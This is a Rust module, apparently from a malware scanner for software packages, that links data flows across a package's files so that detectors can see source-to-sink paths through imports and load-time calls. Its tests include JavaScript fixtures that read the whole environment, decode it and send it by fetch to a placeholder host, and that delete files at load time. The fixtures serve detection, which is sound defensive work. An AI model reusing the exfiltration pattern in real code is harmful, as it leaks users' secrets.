//! Joins the files of a package: what one gives away and another sends, and what happens because another file calls it.
//!
//! Readers see one file at a time and note what leaves it and what enters it ([`Links`]). Here both sides meet. What is found is
//! written down in the file that uses the other one, at the line where it does, so that detectors see one flow as if everything
//! stood there. Nothing is guessed: only files that an import names are joined, and only under the name that is used.

use std::collections::{BTreeMap, BTreeSet};

use super::facts::{Fact, Flow, LINK, Links, Scope, Stage, What};
use super::package::Package;
use super::stages;

/// Rounds in which flows move on by one file each.
const ROUNDS: usize = 6;

/// Facts of other files that one file is given.
const GIVEN_TO_A_FILE: usize = 200;

/// Facts of other files that all files are given.
const GIVEN: usize = 4_000;

/// Times that something is given away again.
const AGAIN: usize = 8;

/// Follows what leaves files and enters others, and drops the ends.
pub(super) fn follow(package: &mut Package) {
    let joins = Joins::of(package);
    if !joins.is_empty() {
        raise(package, &joins);
        let mut given = 0;
        for _ in 0..ROUNDS {
            let before = given;
            for at in 0..package.code.len() {
                given += take(package, &joins, at, GIVEN.saturating_sub(given));
            }
            if given == before {
                break;
            }
        }
    }
    for code in &mut package.code {
        code.facts.links = Links::default();
    }
}

/// Which end of which file means which name of which other file.
struct Joins {
    /// By file and index of the end.
    ends: BTreeMap<(usize, u32), Vec<(usize, String)>>,
}

impl Joins {
    fn of(package: &Package) -> Self {
        let index = stages::index(package);
        let mut ends = BTreeMap::new();
        for (at, code) in package.code.iter().enumerate() {
            for (end, fact) in (0_u32..).zip(&code.facts.links.facts) {
                if !matches!(fact.what, What::Imported | What::Handed) {
                    continue;
                }
                let found = targets(package, &index, at, &fact.detail, AGAIN);
                if !found.is_empty() {
                    ends.insert((at, end), found);
                }
            }
        }
        Self { ends }
    }

    fn is_empty(&self) -> bool {
        self.ends.is_empty()
    }

    fn of_file(&self, at: usize) -> impl Iterator<Item = (u32, &Vec<(usize, String)>)> {
        self.ends.range((at, 0)..=(at, u32::MAX)).map(|(&(_, end), found)| (end, found))
    }
}

/// The files, and the names there, that an end means.
fn targets(
    package: &Package,
    index: &BTreeMap<String, usize>,
    at: usize,
    detail: &str,
    again: usize,
) -> Vec<(usize, String)> {
    let Some((file, name)) = detail.split_once(Links::MARK) else { return Vec::new() };
    let mut found = Vec::new();
    for to in stages::resolve(package, index, at, file).into_iter().filter(|to| *to != at).take(4) {
        found.push((to, name.to_owned()));
        if again == 0 {
            continue;
        }
        for (given, target) in &package.code[to].facts.links.again {
            let rest = match given.as_str() {
                "" | "*" => Some(name),
                given if given == name => Some(""),
                given => name.strip_prefix(given).and_then(|rest| rest.strip_prefix('.')),
            };
            let Some(rest) = rest else { continue };
            let joint = if target.ends_with(Links::MARK) || rest.is_empty() { "" } else { "." };
            let detail = format!("{target}{joint}{rest}");
            found.extend(targets(package, index, to, &detail, again - 1));
        }
        found.truncate(16);
    }
    found
}

/// The name under which a file gives something away that another uses: the same, or the method alone, or what holds it.
fn names<'a>(package: &Package, to: usize, name: &'a str) -> Vec<&'a str> {
    let links = &package.code[to].facts.links;
    let has = |name: &str| {
        links.runs.iter().any(|(run, _)| run == name)
            || links
                .facts
                .iter()
                .any(|f| matches!(f.what, What::Exported | What::Parameter) && f.detail == name)
    };
    let last = name.rsplit('.').next().unwrap_or(name);
    let first = name.split('.').next().unwrap_or(name);
    [name, last, first].into_iter().find(|name| has(name)).into_iter().collect()
}

/// What a file calls in another when it is loaded happens when it is loaded.
fn raise(package: &mut Package, joins: &Joins) {
    let mut open: Vec<usize> = (0..package.code.len()).collect();
    let mut rounds = package.code.len() * 4 + 64;
    while let Some(at) = open.pop() {
        if rounds == 0 {
            return;
        }
        rounds -= 1;
        let reach = package.code[at].reach;
        if reach.stage > Stage::Import || reach.is_program {
            continue;
        }
        for (end, found) in joins.of_file(at) {
            let Some(call) = package.code[at].facts.links.facts.get(end as usize) else { continue };
            if call.what != What::Handed || call.scope != Scope::Load {
                continue;
            }
            let gates = call.gates.clone();
            for (to, name) in found {
                if package.code[*to].reach.stage < reach.stage {
                    continue;
                }
                let names: BTreeSet<String> =
                    names(package, *to, name).into_iter().map(str::to_owned).collect();
                let facts = &mut package.code[*to].facts;
                let mut changed = false;
                for (_, fact) in facts.links.runs.iter().filter(|(run, _)| names.contains(run)) {
                    let place = if fact & LINK == 0 {
                        facts.facts.get_mut(*fact as usize)
                    } else {
                        facts.links.facts.get_mut((fact & !LINK) as usize)
                    };
                    if let Some(fact) = place.filter(|fact| fact.scope != Scope::Load) {
                        fact.scope = Scope::Load;
                        fact.gates.extend(&gates);
                        changed = true;
                    }
                }
                if changed {
                    open.push(*to);
                }
            }
        }
    }
}

/// Something of another file that belongs to an end of this one.
struct Found {
    end: u32,
    /// Whether it is a source that comes in here, or else a sink that is reached from here.
    comes: bool,
    fact: Fact,
    decoded: bool,
}

/// Gives a file what the files that it uses have for it; tells how much that was.
fn take(package: &mut Package, joins: &Joins, at: usize, most: usize) -> usize {
    let mut all = Vec::new();
    for (end, found) in joins.of_file(at) {
        let Some(own) = package.code[at].facts.links.facts.get(end as usize) else { continue };
        let comes = own.what == What::Imported;
        for (to, name) in found {
            for name in names(package, *to, name) {
                all.extend(across(package, *to, name, comes).into_iter().map(|(fact, decoded)| Found {
                    end,
                    comes,
                    fact,
                    decoded,
                }));
            }
        }
    }
    let mut added = 0;
    for found in all {
        if added >= most.min(GIVEN_TO_A_FILE) {
            break;
        }
        added += usize::from(give(package, at, found));
    }
    added
}

/// What flows out of a file under a name, or where in it what flows in goes.
fn across(package: &Package, at: usize, name: &str, comes: bool) -> Vec<(Fact, bool)> {
    let facts = &package.code[at].facts;
    let fact = |index: u32| {
        if index & LINK == 0 {
            facts.facts.get(index as usize)
        } else {
            facts.links.facts.get((index & !LINK) as usize)
        }
    };
    let wanted = if comes { What::Exported } else { What::Parameter };
    let is_end =
        |f: &Fact| matches!(f.what, What::Imported | What::Handed | What::Exported | What::Parameter);
    let mut found = Vec::new();
    for flow in &facts.links.flows {
        let (here, there) = if comes { (flow.to, flow.from) } else { (flow.from, flow.to) };
        let (Some(here), Some(there)) = (fact(here), fact(there)) else { continue };
        if here.what == wanted && here.detail == name && !is_end(there) && found.len() < GIVEN_TO_A_FILE {
            found.push((there.clone(), flow.decoded));
        }
    }
    found
}

/// Writes something of another file down in this one; whether that was new.
fn give(package: &mut Package, at: usize, found: Found) -> bool {
    let facts = &mut package.code[at].facts;
    let Some(end) = facts.links.facts.get(found.end as usize).cloned() else { return false };
    let own = found.end | LINK;
    let others: Vec<(u32, bool)> = facts
        .links
        .flows
        .iter()
        .filter_map(|flow| {
            let other = if found.comes {
                (flow.from == own).then_some(flow.to)
            } else {
                (flow.to == own).then_some(flow.from)
            };
            other.map(|other| (other, flow.decoded || found.decoded))
        })
        .collect();
    if others.is_empty() {
        return false;
    }
    let fact = Fact {
        line: end.line,
        offset: end.offset,
        // A source is where it is used; a sink is reached when the call is made.
        scope: if found.comes { found.fact.scope } else { end.scope },
        gates: found.fact.gates.iter().chain(&end.gates).copied().collect(),
        hops: found.fact.hops.saturating_add(1),
        ..found.fact
    };
    let same = facts.facts.iter().position(|known| {
        (known.what, known.offset, &known.detail) == (fact.what, fact.offset, &fact.detail)
    });
    let is_new = same.is_none();
    let place = match same {
        Some(place) => u32::try_from(place).ok(),
        None => facts.add(fact),
    };
    let Some(place) = place else { return false };
    let mut changed = is_new;
    for (other, decoded) in others {
        let Some(other) = settled(facts, other) else { continue };
        let (from, to) = if found.comes { (place, other) } else { (other, place) };
        let flow = Flow { from, to, decoded };
        if (from | to) & LINK == 0 {
            if tells(facts, flow) && !facts.flows.contains(&flow) {
                facts.join(flow);
                changed = true;
            }
        } else if !facts.links.flows.contains(&flow)
            && facts.links.flows.len() < super::facts::FLOWS_OF_A_FILE * 2
        {
            facts.links.flows.push(flow);
            changed = true;
        }
    }
    changed
}

/// A fact that told nothing by itself is one of the file once something joins it.
fn settled(facts: &mut super::facts::FileFacts, index: u32) -> Option<u32> {
    if index & LINK == 0 {
        return Some(index);
    }
    let fact = facts.links.facts.get((index & !LINK) as usize)?.clone();
    if matches!(fact.what, What::Imported | What::Handed | What::Exported | What::Parameter) {
        return Some(index);
    }
    let same = facts.facts.iter().position(|known| {
        (known.what, known.offset, &known.detail) == (fact.what, fact.offset, &fact.detail)
    });
    match same {
        Some(place) => u32::try_from(place).ok(),
        None => facts.add(fact),
    }
}

/// Whether a source that goes into a sink tells something; as within one file.
fn tells(facts: &super::facts::FileFacts, flow: Flow) -> bool {
    let (Some(from), Some(to)) = (facts.facts.get(flow.from as usize), facts.facts.get(flow.to as usize))
    else {
        return false;
    };
    from.what != What::HostIdentity || matches!(to.what, What::NetSend | What::DnsQuery | What::FileWrite)
}

#[cfg(test)]
mod tests {
    use crate::behaviour::facts::{Scope, Stage, What};
    use crate::behaviour::package::{Code, Package};
    use crate::behaviour::{languages, stages};

    fn package(files: &[(&str, &str)]) -> Package {
        let code = files.iter().map(|(path, text)| Code {
            path: (*path).to_owned(),
            facts: languages::read(super::super::facts::Language::JavaScript, text.as_bytes(), path, 0)
                .unwrap(),
            language: Some(super::super::facts::Language::JavaScript),
            ..Code::default()
        });
        let manifest = crate::behaviour::manifest::Manifest {
            entries: vec!["index.js".to_owned()],
            ..Default::default()
        };
        let mut package = Package { code: code.collect(), manifest: Some(manifest), ..Package::default() };
        stages::settle(&mut package);
        super::follow(&mut package);
        package
    }

    fn flows(package: &Package) -> Vec<(String, What, What, bool)> {
        package
            .flows()
            .map(|(code, from, to, decoded)| (code.path.clone(), from.what, to.what, decoded))
            .collect()
    }

    #[test]
    fn what_one_file_reads_another_sends() {
        let package = package(&[
            ("index.js", "const a = require('./a'); require('./b').send(a.read());"),
            ("a.js", "exports.read = () => Buffer.from(JSON.stringify(process.env), 'hex');"),
            ("b.js", "export { send } from './c.js';"),
            ("c.js", "export async function send(x) { await fetch('https://x.invalid', { body: x }); }"),
        ]);
        let expected = ("index.js".to_owned(), What::EnvAll, What::NetSend, true);
        assert!(flows(&package).contains(&expected), "{:?}", flows(&package));
        assert!(package.code.iter().all(|code| code.facts.links.is_empty()));
    }

    #[test]
    fn only_the_name_that_is_used_counts() {
        let package = package(&[
            (
                "index.js",
                "const a = require('./a'); require('./b').log(a.all()); require('./b').send(a.name());",
            ),
            ("a.js", "exports.all = () => process.env; exports.name = () => 'x';"),
            (
                "b.js",
                "exports.log = (x) => console.log(x); exports.send = (x) => fetch('https://x.invalid/' + x);",
            ),
        ]);
        assert_eq!(flows(&package), []);
    }

    #[test]
    fn what_is_called_when_loading_runs_when_loading() {
        let files = [
            ("index.js", "require('./a').start(); exports.later = () => require('./a').stop();"),
            (
                "a.js",
                "function go() { require('fs').unlinkSync('/x'); }\nmodule.exports = { start() { go(); }, stop() { require('fs').unlinkSync('/y'); } };",
            ),
        ];
        let package = package(&files);
        let scopes: Vec<_> =
            package.facts(&[What::FileDelete]).map(|(_, fact)| (fact.detail.as_str(), fact.scope)).collect();
        assert_eq!(scopes, [("/x", Scope::Load), ("/y", Scope::Call)]);
        assert!(package.code.iter().all(|code| code.reach.stage == Stage::Import));
    }

    #[test]
    fn circles_end() {
        let package = package(&[
            ("index.js", "export * from './a.js'; import { f } from './a.js'; export const g = (x) => f(x);"),
            (
                "a.js",
                "export * from './index.js'; import { g } from './index.js'; export const f = (x) => g(g(x));",
            ),
        ]);
        assert_eq!(flows(&package), []);
    }
}
